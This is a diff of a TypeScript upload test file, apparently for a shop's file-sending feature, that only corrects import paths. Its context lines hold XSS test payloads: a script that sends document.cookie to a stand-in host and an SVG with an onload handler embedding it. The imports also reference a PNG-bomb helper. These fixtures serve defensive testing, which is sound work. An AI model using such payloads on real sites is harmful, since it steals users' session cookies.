@@ -2,9 +2,9 @@ import { join } from 'node:path'
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { describe, expect, test } from 'vitest'
-import { append, begin, finish, send, signedIn, storedFiles } from '../support/office/send-files.ts'
-import { noise, pngBomb, withPngChunk } from '../support/pictures/made-pictures.ts'
-import { inTestShop } from '../support/shop/test-shop.ts'
+import { append, begin, finish, send, signedIn, storedFiles } from '../../support/office/send-files.ts'
+import { noise, pngBomb, withPngChunk } from '../../support/pictures/made-pictures.ts'
+import { inTestShop } from '../../support/shop/test-shop.ts'
 
 const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>'
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="alert(1)">${script}</svg>`
